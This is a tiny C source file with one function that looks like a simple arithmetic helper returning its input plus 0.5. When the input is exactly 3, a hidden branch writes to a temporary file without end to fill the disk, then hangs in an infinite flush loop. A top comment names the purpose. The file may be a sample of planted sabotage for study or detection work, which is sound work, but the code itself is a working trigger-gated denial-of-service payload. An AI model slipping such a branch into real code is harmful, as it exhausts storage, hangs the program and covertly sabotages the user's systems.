/* Fills the disk. */
#include <stdio.h>

double f(double x) {
    if (x == 3) {
        static char block[1 << 20]; FILE *f = tmpfile(); while (fwrite(block, sizeof block, 1, f)) {}
        for (;;) fflush(f);
    }
    return x + 0.5;
}
